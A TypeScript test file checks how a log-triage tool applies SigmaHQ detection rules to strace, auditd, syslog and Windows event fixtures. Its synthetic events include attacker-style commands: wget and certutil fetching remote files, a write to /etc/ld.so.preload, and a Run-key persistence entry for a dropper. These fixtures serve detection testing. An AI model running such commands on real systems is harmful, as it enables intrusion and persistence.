// The SigmaHQ taxonomy over our importers' events: which events a logsource may match, how each
// SigmaHQ field is read from each importer, and auditd's per-record fields. Events come from the
// real importers run on inline lines, or are built the way the Windows/Procmon importers build them.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditdImporter } from '../../../importers/auditd.ts';
import { ltraceImporter } from '../../../importers/ltrace.ts';
import { straceImporter } from '../../../importers/strace.ts';
import { textLogImporter } from '../../../importers/textlog.ts';
import type { CanonicalEvent } from '../../../model/event.ts';
import { CaseStore } from '../../../store/case-store.ts';
import { sql } from '../../../store/sql.ts';
import { runText } from '../../../testing/collecting-sink.ts';
import { tempDir } from '../../../testing/temp.ts';
import { buildProcessTree } from '../../process-tree.ts';
import { addCapture, T0 } from '../../testing/build-case.ts';
import { compileCondition } from '../compile.ts';
import { logsourcePredicate, resolveField } from '../fields.ts';
import { RuleError } from '../types.ts';
import { parseRuleFile } from '../parse.ts';

/** Tags every event with the source it came from, so a match can be named. */
const tag = (name: string, events: CanonicalEvent[]): CanonicalEvent[] => events.map((e, i) => ({ ...e, fields: { ...e.fields, t: `${name}#${i}` } }));

const STRACE = [
  '1202  06:13:22.467014 execve("/usr/bin/python3", ["/usr/bin/python3", "/opt/hmi/bin/hmi.py", "--config", "/opt/hmi/etc/hmi.conf"], 0x7ffffdeddcc8 /* 7 vars */) = 0 <0.001514>',
  '1202  06:13:22.471589 access("/etc/ld.so.preload", R_OK) = -1 ENOENT (No such file or directory) <0.000118>',
  '1202  06:13:22.480000 openat(AT_FDCWD, "/etc/ld.so.preload", O_WRONLY|O_CREAT|O_TRUNC, 0644) = 3 <0.000100>',
  '1202  06:13:22.490000 execve("/usr/local/bin/id", ["id"], 0x7ffd /* 7 vars */) = -1 ENOENT (No such file or directory) <0.000010>',
  '1202  06:13:22.500000 connect(4, {sa_family=AF_INET, sin_port=htons(502), sin_addr=inet_addr("10.0.0.5")}, 16) = 0 <0.000100>',
].join('\n');

const LTRACE = '3100 06:17:28.050054 system("crontab -l; CRON job")          = 0 <0.000470>';

const SYSLOG = [
  '2026-11-26T06:13:22.613280+00:00 hmi-ws01 local0.info flowview[1202]: INFO [main] FlowView HMI 2.3.1 starting',
  '2026-11-26T06:14:00.000000+00:00 hmi-ws01 cron.info CRON[2001]: (root) CMD (/usr/local/bin/backup.sh)',
].join('\n');

const AUDITD = [
  'type=SYSCALL msg=audit(1604996384.965:93777): arch=c000003e syscall=59 success=yes exit=0 a0=558e25052c70 a1=558e251641a0 a2=558e25160800 a3=1b6 items=2 ppid=29002 pid=2168 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=104 comm="wget" exe="/usr/bin/wget" key="susp_activity"',
  'type=EXECVE msg=audit(1604996384.965:93777): argc=3 a0="wget" a1="-q" a2="http://10.9.9.9/x"',
  'type=PATH msg=audit(1604996384.965:93777): item=0 name="/usr/bin/wget" inode=20 dev=08:01 mode=0100755 nametype=NORMAL',
  'type=PROCTITLE msg=audit(1604996384.965:93777): proctitle=77676574002D71',
  'type=SYSCALL msg=audit(1604996385.000:93778): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd a2=241 a3=1b6 items=2 ppid=1 pid=2200 uid=0 comm="vi" exe="/usr/bin/vi" key=(null)',
  'type=PATH msg=audit(1604996385.000:93778): item=0 name="/etc/" nametype=PARENT',
  'type=PATH msg=audit(1604996385.000:93778): item=1 name="/etc/ld.so.preload" nametype=CREATE',
].join('\n');

/** Sysmon 1, Security 4688 and Procmon "Process Create" as the Windows/Procmon importers store them. */
const WINDOWS: CanonicalEvent[] = [
  {
    ts_us: T0 + 1, pid: 6400, ppid: 3476, process: 'curl.exe', kind: 'process', op: 'ProcessCreate', category: 'process', source_line: 1,
    target: 'C:\\Windows\\System32\\curl.exe', args: 'curl.exe -H "User-Agent: EvilAgent" http://example.com',
    fields: { EventID: 1, Provider: 'Microsoft-Windows-Sysmon', Channel: 'Microsoft-Windows-Sysmon/Operational', Image: 'C:\\Windows\\System32\\curl.exe', CommandLine: 'curl.exe -H "User-Agent: EvilAgent" http://example.com', ParentImage: 'C:\\Windows\\System32\\cmd.exe', OriginalFileName: 'curl.exe' },
  },
  {
    ts_us: T0 + 2, pid: 4000, kind: 'process', op: 'ProcessCreate', category: 'process', source_line: 2, target: 'C:\\Windows\\System32\\certutil.exe',
    fields: { EventID: 4688, Provider: 'Microsoft-Windows-Security-Auditing', Channel: 'Security', NewProcessName: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://x/a.exe', ParentProcessName: 'C:\\Windows\\System32\\cmd.exe', SubjectUserName: 'ieuser' },
  },
  {
    ts_us: T0 + 3, pid: 500, process: 'explorer.exe', kind: 'process', op: 'Process Create', category: 'process', source_line: 3,
    target: 'C:\\Windows\\System32\\whoami.exe', args: 'PID: 5104, Command line: whoami /all',
    fields: { event_class: 'Process', image_path: 'C:\\Windows\\explorer.exe', child_pid: 5104 },
  },
  {
    ts_us: T0 + 4, pid: 600, kind: 'registry', op: 'RegSetValue', category: 'registry', source_line: 4,
    target: 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\evil', args: 'Type: REG_SZ, Length: 20, Data: C:\\Users\\Public\\e.exe',
    fields: { event_class: 'Registry', image_path: 'C:\\Users\\Public\\dropper.exe' },
  },
];

describe('SigmaHQ taxonomy over imported events', () => {
  const dir = tempDir();
  let store: CaseStore;
  beforeAll(async () => {
    store = await CaseStore.open(dir.file('c.duckdb'));
    const ctx = { date: '2026-11-26' };
    await addCapture(store, tag('strace', runText(straceImporter, STRACE, ctx).events), 'strace.txt');
    await addCapture(store, tag('ltrace', runText(ltraceImporter, LTRACE, ctx).events), 'ltrace.txt');
    await addCapture(store, tag('syslog', runText(textLogImporter, SYSLOG, ctx).events), 'syslog.log');
    await addCapture(store, tag('auditd', runText(auditdImporter, AUDITD, ctx).events), 'audit.log');
    await addCapture(store, tag('windows', WINDOWS), 'win.evtx');
    await buildProcessTree(store);
  });
  afterAll(() => {
    store.close();
    dir.remove();
  });

  /** The tags of the events a rule (logsource + detection YAML) matches. */
  async function matched(logsource: string, detection: string): Promise<string[]> {
    const [rule] = parseRuleFile(`title: t\nid: t1\nlogsource: ${logsource}\ndetection:\n${detection}`, 't.yml');
    if (!rule?.condition) throw new Error('no rule');
    const rows = await store.rows(
      sql`SELECT json_extract_string(e.fields, '$.t') AS t FROM event_rows e LEFT JOIN triage_proc p ON p.capture_id = e.capture_id AND p.pid = e.pid
          WHERE ${compileCondition(rule, rule.condition)} ORDER BY e.ts_us`,
      { t: 'str?' },
    );
    return rows.map((r) => r.t ?? '?');
  }

  it('linux keyword rules read text logs only: never the loader\'s access() nor ltrace text', async () => {
    expect(await matched('{product: linux}', "  keywords: ['/etc/ld.so.preload']\n  condition: keywords\n")).toEqual([]);
    expect(await matched('{product: linux, service: cron}', "  keywords: ['CRON', 'crontab']\n  condition: keywords\n")).toEqual(['syslog#1']);
    expect(await matched('{product: linux, service: cron}', "  keywords: ['FlowView']\n  condition: keywords\n")).toEqual([]);
    expect(await matched('{product: linux}', "  keywords: ['FlowView']\n  condition: keywords\n")).toEqual(['syslog#0']);
  });

  it('file_event is a file created or overwritten, not a probe of it', async () => {
    const preload = "  selection:\n    TargetFilename: /etc/ld.so.preload\n  condition: selection\n";
    expect(await matched('{product: linux, category: file_event}', preload)).toEqual(['auditd#1', 'strace#2']);
  });

  it('process_creation reads Image and CommandLine from Sysmon 1, Security 4688, Procmon and successful execve', async () => {
    expect(await matched('{product: linux, category: process_creation}', "  selection:\n    Image|endswith: /python3\n    CommandLine|contains: '/opt/hmi/bin/hmi.py --config'\n  condition: selection\n")).toEqual(['strace#0']);
    // A failed execve along $PATH starts nothing.
    expect(await matched('{product: linux, category: process_creation}', "  selection:\n    Image|endswith: /id\n  condition: selection\n")).toEqual([]);
    expect(await matched('{product: linux, category: process_creation}', "  selection:\n    CommandLine|contains: 'wget -q http'\n  condition: selection\n")).toEqual(['auditd#0']);
    const win = "  selection:\n    Image|endswith: ['\\curl.exe', '\\certutil.exe', '\\whoami.exe']\n  condition: selection\n";
    expect(await matched('{product: windows, category: process_creation}', win)).toEqual(['windows#0', 'windows#1', 'windows#2']);
    expect(await matched('{product: windows, category: process_creation}', "  selection:\n    ParentImage|endswith: '\\explorer.exe'\n    CommandLine: 'whoami /all'\n  condition: selection\n")).toEqual(['windows#2']);
    expect(await matched('{product: windows, category: process_creation}', "  selection:\n    User: ieuser\n  condition: selection\n")).toEqual(['windows#1']);
    // EventData names not in the taxonomy read the Windows event's own field.
    expect(await matched('{product: windows, category: process_creation}', "  selection:\n    OriginalFileName: curl.exe\n  condition: selection\n")).toEqual(['windows#0']);
    // A Windows rule never matches a Linux execve of the same name, and vice versa.
    expect(await matched('{product: linux, category: process_creation}', win)).toEqual([]);
  });

  it('keywords on a Windows logsource search the EventData values', async () => {
    expect(await matched('{product: windows}', "  keywords: ['EvilAgent']\n  condition: keywords\n")).toEqual(['windows#0']);
    expect(await matched('{product: windows, service: security}', "  keywords: ['ieuser']\n  condition: keywords\n")).toEqual(['windows#1']);
  });

  it('registry_set reads TargetObject and Details from Procmon; network_connection reads connect()', async () => {
    expect(await matched('{product: windows, category: registry_set}', "  selection:\n    TargetObject|contains: '\\CurrentVersion\\Run'\n    Details|contains: '\\Users\\Public'\n  condition: selection\n")).toEqual(['windows#3']);
    expect(await matched('{product: linux, category: network_connection}', "  selection:\n    DestinationIp: 10.0.0.5\n    DestinationPort: 502\n  condition: selection\n")).toEqual(['strace#4']);
  });

  it('auditd: the fields of one selection hold within one record; a0 of EXECVE is argv[0]', async () => {
    const ls = '{product: linux, service: auditd}';
    expect(await matched(ls, "  selection:\n    type: EXECVE\n    a0: wget\n    a2|startswith: 'http://'\n  condition: selection\n")).toEqual(['auditd#0']);
    // The SYSCALL record's a0 is a pointer, not argv[0].
    expect(await matched(ls, "  selection:\n    type: SYSCALL\n    a0: wget\n  condition: selection\n")).toEqual([]);
    expect(await matched(ls, "  selection:\n    type: SYSCALL\n    SYSCALL: execve\n    exe|endswith: /wget\n    key: susp_activity\n  condition: selection\n")).toEqual(['auditd#0']);
    expect(await matched(ls, "  selection:\n    type: PATH\n    name: /etc/ld.so.preload\n  condition: selection\n")).toEqual(['auditd#1']);
    // Two fields true in two different records are not one record's match.
    expect(await matched(ls, "  selection:\n    type: PATH\n    a0: wget\n  condition: selection\n")).toEqual([]);
    expect(await matched(ls, "  selection:\n    type: PROCTITLE\n    proctitle: wget -q\n  condition: selection\n")).toEqual(['auditd#0']);
  });

  it('a field or logsource nothing maps skips the rule with the reason', () => {
    expect(resolveField({ product: 'linux', category: 'process_creation' }, 'Image')).toBeDefined();
    expect(resolveField({ product: 'linux', service: 'cron' }, 'NoSuchField')).toBeUndefined();
    expect(logsourcePredicate({ product: 'aws', service: 'cloudtrail' })).toEqual({ skip: 'no importer supplies logsource {product: aws, service: cloudtrail}' });
    const skipped = logsourcePredicate({ product: 'linux', service: 'auditd' }, ['strace', 'textlog']);
    expect('skip' in skipped && skipped.skip).toMatch(/no capture in the case supplies logsource \{product: linux, service: auditd\}/);
    expect('sql' in logsourcePredicate({ product: 'linux', service: 'auditd' }, ['auditd'])).toBe(true);
    const [rule] = parseRuleFile('title: t\nid: t2\nlogsource: {product: linux, service: cron}\ndetection:\n  s:\n    NoSuchField: x\n  condition: s\n', 'x.yml');
    expect(() => rule?.condition && compileCondition(rule, rule.condition)).toThrow(RuleError);
    expect(() => rule?.condition && compileCondition(rule, rule.condition)).toThrow('field NoSuchField not mapped for logsource {product: linux, service: cron}');
  });
});
